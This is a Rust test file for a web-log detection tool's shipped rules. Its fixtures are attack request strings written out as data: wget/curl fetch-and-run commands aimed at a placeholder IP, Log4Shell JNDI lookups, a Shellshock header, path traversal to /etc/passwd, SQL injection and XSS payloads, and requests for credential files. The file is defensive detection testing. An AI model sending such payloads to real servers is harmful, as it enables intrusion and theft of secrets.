use super::super::filter::{Filter, Subject};
use super::super::rule::{self, Rule};
use super::*;
use logstat_parsers::{Format, Line, Options, Preset, RejectKind};

fn rule(name: &str) -> Rule {
    rule::pick(&[name.to_owned()], &[]).unwrap().remove(0)
}

/// Whether a line, of HAProxy if it has a termination state, is a hit.
fn is_hit(rule: &Rule, request: &str, status: u16, agent: &str) -> bool {
    let (preset, line) = match agent.strip_prefix("haproxy ") {
        Some(state) => (
            "haproxy-http",
            format!(
                "203.0.113.90:51000 [20/Nov/2026:03:14:02.003] www www/app 0/0/0/1/1 {status} 212 - - {state} \
                 12/10/0/0/0 0/0 \"{request}\""
            ),
        ),
        None => (
            "combined",
            format!(
                "203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] \"{request}\" {status} 150 \"-\" \"{agent}\""
            ),
        ),
    };
    let format = Format::compile(Preset::named(preset).unwrap().format_string, &Options::default()).unwrap();
    match format.parser(0).parse(line.as_bytes()) {
        Line::Record(record) => rule.hit(&Subject::of(&record)).is_some(),
        other => panic!("{line}: {other:?}"),
    }
}

fn check(name: &str, hits: &[(&str, u16, &str)], near_misses: &[(&str, u16, &str)]) {
    let rule = rule(name);
    for (cases, expected) in [(hits, true), (near_misses, false)] {
        for &(request, status, agent) in cases {
            let request = if request.contains(' ') || !request.starts_with('/') {
                request.to_owned()
            } else {
                format!("GET {request} HTTP/1.1")
            };
            assert_eq!(
                is_hit(&rule, &request, status, agent),
                expected,
                "{name}: {request} {status} {agent}"
            );
        }
    }
}

fn check_targets<'t>(name: &str, hits: &[&'t str], near_misses: &[&'t str]) {
    let requests = |targets: &[&'t str]| targets.iter().map(|target| (*target, 404, "-")).collect::<Vec<_>>();
    check(name, &requests(hits), &requests(near_misses));
}

#[test]
fn every_shipped_rule_is_whole_and_told() {
    for shipped in &SHIPPED {
        let rule = rule(shipped.name);
        assert!(rule.bantime <= rule.bantime_max, "{}", rule.name);
        assert!(!shipped.catches.is_empty() && !shipped.wrongly.is_empty());
        if let Some(text) = shipped.filter {
            let filter = Filter::parse(text).unwrap();
            assert_eq!(filter.to_string(), text, "canonical");
        }
    }
}

#[test]
fn probing_login_and_wordpress() {
    check(
        "probing",
        &[("/a", 404, "-"), ("/a.php?x=1", 403, "-"), ("POST /a HTTP/1.1", 400, "-"), ("/a.css/b", 404, "-")],
        &[
            ("/a", 200, "-"),
            ("/favicon.ico", 404, "-"),
            ("/a.PNG?v=1", 403, "-"),
            ("/a", 401, "-"),
            ("", 400, "-"),
        ],
    );
    check(
        "login-bruteforce",
        &[("POST /login HTTP/1.1", 401, "-"), ("POST /login HTTP/1.1", 403, "-")],
        &[("/login", 401, "-"), ("POST /login HTTP/1.1", 200, "-"), ("POST /login HTTP/1.1", 404, "-")],
    );
    check(
        "wordpress-login",
        &[("POST /wp-login.php HTTP/1.1", 200, "-"), ("POST /blog/wp-login.php?a=b HTTP/2.0", 403, "-")],
        &[
            ("/wp-login.php", 200, "-"),
            ("POST /wp-login.php.html HTTP/1.1", 200, "-"),
            ("POST /?/wp-login.php HTTP/1.1", 200, "-"),
        ],
    );
    check(
        "xmlrpc",
        &[("POST /xmlrpc.php HTTP/1.1", 200, "-"), ("POST //xmlrpc.php HTTP/1.1", 405, "-")],
        &[("/xmlrpc.php", 405, "-"), ("POST /myxmlrpc.php HTTP/1.1", 200, "-")],
    );
}

#[test]
fn sensitive_files() {
    check_targets(
        "sensitive-files",
        &[
            "/.env",
            "/api/.env.bak",
            "/.ENV",
            "/%2eenv",
            "/.git/config",
            "/.aws/credentials",
            "/wp-config.php",
            "/wp-config.php~",
            "/backup.zip",
            "/a/dump.sql",
            "/dump.sql.gz",
            "/id_rsa",
            "/server.key",
            "GET http://example.net/.git/HEAD HTTP/1.1",
        ],
        &[
            "/.well-known/acme-challenge/x",
            "/.environment",
            "/.gitignored",
            "/env",
            "/docs/git",
            "/keys",
            "/?f=/.env",
            "/learn-sql",
            "/monkey",
            "/secretsanta",
            "/backup.zipper",
        ],
    );
}

#[test]
fn scanners() {
    check(
        "scanner-agent",
        &[
            ("/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"),
            ("/", 404, "Mozilla/5.0 zgrab/0.x"),
            ("/", 200, "Nikto"),
        ],
        &[
            ("/", 200, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"),
            ("/nikto", 200, "curl/8.5.0"),
            ("/", 200, "-"),
        ],
    );
}

#[test]
fn traversal_injection_and_script() {
    check_targets(
        "path-traversal",
        &[
            "/../../etc/hosts",
            "/a/%2e%2e/%2E%2e%2fb",
            "/%252e%252e%252f%252e%252e%252f",
            "/a?f=../../../b",
            "/a?f=%2fetc%2fpasswd",
            "/cgi-bin/.%2e/.%2e/bin",
            r"/..\x5C..\x5Cboot.ini",
            "/x?page=/proc/self/environ",
        ],
        &["/a/../b", "/a?next=../b", "/etc", "/a...b/..c", "/a?v=1..2"],
    );
    check_targets(
        "sql-injection",
        &[
            "/a?id=1+UNION+ALL+SELECT+1,2",
            "/a?id=1%20union%20select%20null",
            "/a?id=1'+or+'1'='1",
            "/a?id=1%27%20AND%201=1",
            "/a?id=sleep(5)",
            "/a?q=information_schema.tables",
            "/a?id=1;DROP+TABLE+x",
            "/a?id=1+order+by+9--",
        ],
        &[
            "/union+select",
            "/a?q=trade+union",
            "/a?q=select+a+union",
            "/a?q=sleep",
            "/a?sort=order+by+name",
            "/a?q=rock'n'roll+or+jazz",
        ],
    );
    check_targets(
        "xss",
        &[
            "/a?q=<script>alert(1)</script>",
            "/a?q=%3CScript%3E",
            "/%3Csvg/onload=alert(1)%3E",
            "/a?u=javascript:alert(1)",
            "/a?q=%22+onerror=alert(1)",
            "/a?q=%3Cimg%20src=x",
        ],
        &[
            "/script",
            "/a.js?onload=ready",
            "/a?q=javascript",
            "/a?q=1%3C2",
            "/a?q=image",
            "/a?q=x-javascript:y",
        ],
    );
}

#[test]
fn shell_probes() {
    check_targets(
        "shell-probe",
        &[
            "/shell?cd+/tmp;wget+http://192.0.2.1/a.sh;sh+a.sh",
            "/a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D",
            "/vendor/phpunit/eval-stdin.php",
            "/cgi-bin/.%2e/.%2e/bin/sh",
            "/a?c=$(curl+192.0.2.1/x)",
            "/a?x=`wget${IFS}http://192.0.2.1/a`",
            "/?%ADd+allow_url_include%3d1",
        ],
        &[
            "/wget",
            "/a?q=wget+http://example.net/",
            "/a?q=how+to+curl",
            "/shell",
            "/bin/sh",
            "/a?q=a;curl",
            "/a?q=jndi",
        ],
    );
    check(
        "shell-probe",
        &[("/", 200, "() { :; }; /bin/bash -c id"), ("/", 200, "${JNDI:ldap://192.0.2.1/a}")],
        &[("/", 200, "function() { return }"), ("/", 200, "jndi")],
    );
}

#[test]
fn bad_requests_and_refusals() {
    check(
        "bad-request",
        &[
            (r"\x16\x03\x01\x02", 400, "-"),
            ("", 400, "-"),
            ("SSH-2.0-Go", 400, "-"),
            ("<BADREQ>", 400, "haproxy PR--"),
        ],
        // Connections that browsers open ahead, and requests that can be read.
        &[
            ("<BADREQ>", 400, "haproxy CR--"),
            ("<BADREQ>", 408, "haproxy cR--"),
            ("/", 400, "-"),
            ("", 408, "-"),
        ],
    );
    check(
        "denied",
        &[("/", 403, "haproxy PR--"), ("/", 429, "haproxy PRVN"), ("/", 444, "-")],
        &[
            ("/", 403, "-"),
            ("/", 503, "haproxy PH--"),
            ("/", 404, "haproxy ----"),
            ("<BADREQ>", 408, "haproxy cR--"),
        ],
    );
}

#[test]
fn floods_crawls_and_bans() {
    check(
        "http-flood",
        &[("/", 200, "-"), ("", 400, "-"), ("POST /a HTTP/1.1", 500, "haproxy SH--")],
        &[("<BADREQ>", 408, "haproxy cR--"), ("<BADREQ>", 400, "haproxy CR--")],
    );
    check(
        "crawl",
        &[("/a", 200, "-"), ("/a.html", 404, "-")],
        &[("/a.css", 200, "-"), ("HEAD /a HTTP/1.1", 200, "-")],
    );
    for name in ["recidive", "ipv6-56", "ipv6-48", "malformed", "ambiguous"] {
        check(name, &[], &[("/a", 403, "sqlmap"), ("", 400, "-")]);
    }
}

#[test]
fn lines_that_cannot_be_read() {
    let counts = |name: &str, kind| rule(name).counts_reject(kind);
    for kind in RejectKind::ALL {
        assert!(counts("malformed", kind));
        let is_by_clients = matches!(kind, RejectKind::Ambiguous | RejectKind::TooLong);
        assert_eq!(counts("ambiguous", kind), is_by_clients);
        assert!(!counts("bad-request", kind));
    }
}

#[test]
fn the_default_rules_are_shipped_ones_in_their_order() {
    let on: Vec<_> = SHIPPED.iter().map(|rule| rule.name).filter(|name| DEFAULT.contains(name)).collect();
    assert_eq!(on, DEFAULT);
}

#[test]
fn what_a_hit_rests_on_is_where_it_is_said_to_be() {
    let lines: [(&str, &[u8]); 5] = [
        ("combined", br#"203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] "GET /.env?a=../../&b=<script> HTTP/1.1" 404 150 "${jndi:" "Nikto""#),
        ("combined", br#"203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] "\x16\x03" 400 150 "-" "-""#),
        ("combined", br#"203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] "POST http://a/wp-login.php?q=1%27+or+1 HTTP/1.1" 403 1 "-" "x""#),
        ("haproxy-http", br#"203.0.113.90:51000 [20/Nov/2026:03:14:02.003] www www/app 0/0/0/1/1 403 212 - - PR-- 12/10/0/0/0 0/0 "GET /a.sql HTTP/1.1""#),
        ("caddy", br#"{"ts":1763608442.5,"request":{"remote_ip":"203.0.113.90","client_ip":"203.0.113.90","proto":"HTTP/1.1","method":"GET","host":"a","uri":"/.git/c\u002fd?a=<\u0073cript>","headers":{"User-Agent":["sqlmap \"1\""]}},"duration":0.1,"size":1,"status":404}"#),
    ];
    let rules = rule::pick(&SHIPPED.map(|shipped| shipped.name.to_owned()), &[]).unwrap();
    let mut explained = std::collections::BTreeSet::new();
    for (preset, line) in lines {
        let format =
            Format::compile(Preset::named(preset).unwrap().format_string, &Options::default()).unwrap();
        let mut parser = format.parser(0);
        let Line::Record(record) = parser.parse(line) else {
            panic!("{preset}: {}", String::from_utf8_lossy(line))
        };
        let subject = Subject::of(&record);
        for rule in &rules {
            let evidence = rule.explain(&subject);
            assert_eq!(evidence.is_some(), rule.hit(&subject).is_some());
            for found in evidence.into_iter().flatten() {
                explained.insert(rule.name.clone());
                if let Some(place) = found.place_in(line) {
                    assert_eq!(line[place], found.text.unwrap()[found.bytes.unwrap()], "{}", found.condition);
                }
            }
        }
    }
    for name in
        ["probing", "sensitive-files", "scanner-agent", "bad-request", "denied", "wordpress-login", "crawl"]
    {
        assert!(explained.contains(name), "{name}");
    }
}
